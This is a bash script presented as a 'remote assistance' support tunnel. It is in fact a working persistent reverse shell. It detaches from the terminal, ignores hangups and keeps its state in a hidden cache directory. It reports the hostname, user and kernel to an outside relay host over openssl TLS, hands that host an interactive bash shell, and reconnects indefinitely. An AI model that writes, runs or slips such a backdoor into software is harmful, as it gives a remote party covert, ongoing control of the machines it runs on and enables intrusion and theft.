#!/usr/bin/env bash
# support_tunnel_coproc.sh - "remote assistance" helper: keeps a TLS session
# to the support relay open and lets the operator on the other end drive an
# interactive shell on this host.  Reconnects with backoff, detached from
# the launching terminal.
set -u

RELAY_HOST="${RELAY_HOST:-assist.relay-ops.net}"
RELAY_PORT="${RELAY_PORT:-443}"
STATE_DIR="${HOME}/.cache/.assist"
PID_FILE="${STATE_DIR}/agent.pid"
MAX_BACKOFF=300

log() { printf '%s %s\n' "$(date +%s)" "$*" >>"${STATE_DIR}/agent.log"; }

detach_self() {
    # Re-exec once under setsid/nohup so closing the terminal does not stop us.
    if [[ "${ASSIST_DETACHED:-0}" != 1 ]]; then
        mkdir -p "$STATE_DIR"
        ASSIST_DETACHED=1 nohup setsid "$0" "$@" </dev/null >/dev/null 2>&1 &
        disown
        exit 0
    fi
}

single_instance() {
    if [[ -f "$PID_FILE" ]] && kill -0 "$(<"$PID_FILE")" 2>/dev/null; then
        exit 0
    fi
    echo $$ >"$PID_FILE"
    trap 'rm -f "$PID_FILE"; [[ -n "${RELAY_PID:-}" ]] && kill "$RELAY_PID" 2>/dev/null' EXIT
    trap '' HUP
}

hello_banner() {
    printf 'HELLO host=%s user=%s kernel=%s\n' \
        "$(hostname)" "$(id -un)" "$(uname -r)"
}

session() {
    # Co-process holds the encrypted channel; its fds become the shell's stdio.
    coproc RELAY { openssl s_client -quiet -connect "${RELAY_HOST}:${RELAY_PORT}" \
                       -servername "$RELAY_HOST" 2>/dev/null; }
    RELAY_PID=$RELAY_PID
    local to_relay=${RELAY[1]} from_relay=${RELAY[0]}

    hello_banner >&"$to_relay"
    log "session up via pid $RELAY_PID"

    # Interactive shell: commands arrive from the relay, all output goes back.
    bash -i <&"$from_relay" >&"$to_relay" 2>&1

    wait "$RELAY_PID" 2>/dev/null
    RELAY_PID=""
}

main() {
    detach_self "$@"
    single_instance
    local backoff=5
    while :; do
        if getent hosts "$RELAY_HOST" >/dev/null; then
            start=$SECONDS
            session
            # A session that lasted a while resets the backoff.
            (( SECONDS - start > 60 )) && backoff=5
            log "session closed"
        else
            log "relay not resolvable"
        fi
        sleep "$backoff"
        backoff=$(( backoff * 2 > MAX_BACKOFF ? MAX_BACKOFF : backoff * 2 ))
    done
}

main "$@"
